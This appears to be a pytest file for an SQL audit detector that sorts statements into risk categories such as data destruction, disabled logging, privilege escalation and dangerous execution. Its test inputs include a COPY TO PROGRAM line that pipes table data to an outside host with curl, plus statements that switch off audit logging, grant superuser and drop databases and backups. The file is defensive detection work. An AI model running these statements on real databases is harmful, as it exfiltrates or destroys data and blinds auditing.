"""What the SQL analysis makes of statements: kind, objects, categories, redaction."""

from __future__ import annotations

import pytest

from auditwatch.detectors.sql.classify import classify, classify_one, split_statements

D, B, L, P, C, X = ("data.destroy", "backup.destroy", "logging.disable", "privilege.escalate",
                    "credential.create", "exec.dangerous")

CASES = [
    # (sql, kind, categories)
    ("SELECT * FROM orders WHERE id = 4", "SELECT", ()),
    ("INSERT INTO t (a) VALUES (1)", "INSERT", ()),
    ("UPDATE users SET name = 'x' WHERE id = 3", "UPDATE", ()),
    ("UPDATE users SET name = 'x'", "UPDATE", (D,)),
    ("update t set a=1 where 1=1", "UPDATE", (D,)),
    ("DELETE FROM users WHERE id = 9", "DELETE", ()),
    ("delete from bar", "DELETE", (D,)),
    ("DELETE FROM t WHERE true", "DELETE", (D,)),
    ("DELETE FROM t WHERE 'a' = 'a'", "DELETE", (D,)),
    ("DELETE FROM logs LIMIT 100", "DELETE", (D,)),
    ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "SELECT", (D,)),
    ("DROP TABLE customers", "DROP TABLE", (D,)),
    ("DROP /* hidden */ TaBlE IF EXISTS \"Public\".\"Users\" CASCADE", "DROP TABLE", (D,)),
    ("DROP DATABASE prod", "DROP DATABASE", (D,)),
    ("DROP SCHEMA backups CASCADE", "DROP SCHEMA", (B, D)),
    ("DROP TABLE archive.orders_2024", "DROP TABLE", (B, D)),
    ("DROP INDEX idx_a", "DROP INDEX", (D,)),
    ("DROP VIEW v", "DROP VIEW", (D,)),
    ("DROP FUNCTION f(int)", "DROP FUNCTION", (D,)),
    ("DROP OWNED BY bob", "DROP OWNED", (D,)),
    ("DROP PUBLICATION p", "DROP PUBLICATION", (B,)),
    ("DROP SUBSCRIPTION s", "DROP SUBSCRIPTION", (B,)),
    ("DROP ROLE bob", "DROP ROLE", ()),
    ("TRUNCATE a, b CASCADE", "TRUNCATE", (D,)),
    ("ALTER TABLE users DROP COLUMN email", "ALTER TABLE", (D,)),
    ("ALTER TABLE users DROP CONSTRAINT users_pk", "ALTER TABLE", ()),
    ("ALTER TABLE users RENAME TO users_old", "ALTER TABLE", (D,)),
    ("ALTER TABLE users RENAME COLUMN a TO b", "ALTER TABLE", ()),
    ("ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM", (L,)),
    ("ALTER SYSTEM SET log_statement = 'all'", "ALTER SYSTEM", ()),
    ("ALTER SYSTEM SET log_min_duration_statement = -1", "ALTER SYSTEM", (L,)),
    ("SET pgaudit.log = 'none'", "SET", (L,)),
    ("SET session_replication_role = replica", "SET", (L,)),
    ("SET GLOBAL server_audit_logging=OFF", "SET", (L,)),
    ("SET sql_log_bin=0", "SET", (L,)),
    ("SET search_path = app", "SET", ()),
    ("ALTER ROLE bob SUPERUSER", "ALTER ROLE", (P,)),
    ("ALTER ROLE bob BYPASSRLS", "ALTER ROLE", (P,)),
    ("ALTER ROLE bob PASSWORD 'x'", "ALTER ROLE", (C,)),
    ("CREATE ROLE r SUPERUSER LOGIN", "CREATE ROLE", (P,)),
    ("CREATE USER regress_user1 password <REDACTED>", "CREATE USER", (C,)),
    ("GRANT ALL ON ALL TABLES IN SCHEMA public TO agent", "GRANT", (P,)),
    ("GRANT pg_read_all_data TO agent", "GRANT", (P,)),
    ("GRANT SELECT ON t TO reader", "GRANT", ()),
    ("COPY t TO PROGRAM 'curl -d @- http://x'", "COPY", (X,)),
    ("COPY t TO '/tmp/t.csv'", "COPY", ()),
    ("DO $$ BEGIN EXECUTE 'drop table foo'; END $$", "DO", (D, X)),
    ("INSERT INTO notes VALUES ('drop table x')", "INSERT", ()),
    ("SELECT pg_drop_replication_slot('standby1')", "SELECT", (B,)),
    ("SELECT set_config('pgaudit.log', 'none', false)", "SELECT", (L,)),
    ("SELECT * FROM jobs WHERE state = 'new' FOR UPDATE SKIP LOCKED", "SELECT", ()),
    ("SELECT id FROM t FOR NO KEY UPDATE", "SELECT", ()),
    ("INSERT INTO t (id, n) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET n = excluded.n", "INSERT", ()),
    ("INSERT INTO t (id, n) VALUES (1, 2) ON DUPLICATE KEY UPDATE n = 2", "INSERT", ()),
]


@pytest.mark.parametrize("sql,kind,cats", CASES, ids=[c[0][:40] for c in CASES])
def test_classify(sql: str, kind: str, cats: tuple[str, ...]) -> None:
    v = classify_one(sql)
    assert v.kind == kind
    assert v.categories == tuple(sorted(cats))


def test_split_respects_quotes_comments_and_dollar_bodies() -> None:
    sql = "SELECT ';'; /* ; */ DO $x$ BEGIN PERFORM 1; END $x$; -- trailing ; \n DROP TABLE a"
    assert split_statements(sql) == ["SELECT ';'", "/* ; */ DO $x$ BEGIN PERFORM 1; END $x$",
                                     "-- trailing ; \n DROP TABLE a"]
    assert [v.kind for v in classify(sql)] == ["SELECT", "DO", "DROP TABLE"]


def test_redaction_removes_literals_and_keeps_shape() -> None:
    a = classify_one("DELETE FROM users WHERE email = 'alice@example.com' AND id = 42")
    b = classify_one("delete from users where email = 'bob@example.org' and id = 7")
    assert "alice" not in a.redacted and "42" not in a.redacted
    assert a.redacted == "DELETE FROM users WHERE email = ? AND id = ?"
    assert a.fingerprint == b.fingerprint
    assert classify_one("DELETE FROM users WHERE id = 1").fingerprint != a.fingerprint


def test_objects_are_reported() -> None:
    assert classify_one("TRUNCATE TABLE sales.q1, sales.q2").objects == ["sales.q1", "sales.q2"]
    assert classify_one('DROP TABLE "My Table"').objects == ["My Table"]


def test_huge_statement_is_bounded_and_flagged() -> None:
    sql = "DROP TABLE t; SELECT " + "x," * 200_000 + "1"
    vs = classify(sql)
    assert vs[0].kind == "DROP TABLE" and vs[0].categories == (D,)
    assert all(v.truncated for v in vs)
